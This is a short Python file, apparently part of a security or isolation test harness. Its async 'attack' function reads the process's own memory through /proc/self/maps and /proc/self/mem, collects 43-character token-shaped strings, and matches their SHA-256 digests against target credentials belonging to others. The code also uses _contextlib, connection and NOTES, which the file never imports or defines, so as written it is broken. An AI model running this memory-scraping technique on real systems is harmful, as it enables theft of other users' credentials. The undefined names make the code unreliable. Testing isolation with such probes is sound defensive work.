"""Search everything in its own memory for the credentials of others, left there by the process it came from."""

import hashlib
import re


async def attack(agent, message, ctx, targets):
    form = re.compile(rb"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])")
    own = {str(value).encode() for _, value in connection(agent).metadata}
    candidates = set()
    with open("/proc/self/maps", encoding="utf-8") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            span, mode, *_ = line.split()
            start, end = (int(part, 16) for part in span.split("-"))
            if mode.startswith("rw") and end - start < 64 << 20:
                with _contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(start)
                    candidates |= set(form.findall(memory.read(end - start)))
    NOTES.append(f"{len(candidates)} candidates, its own among them: {bool(own & candidates)}")
    return [one for one in candidates if hashlib.sha256(one).hexdigest() in targets["digests"]]
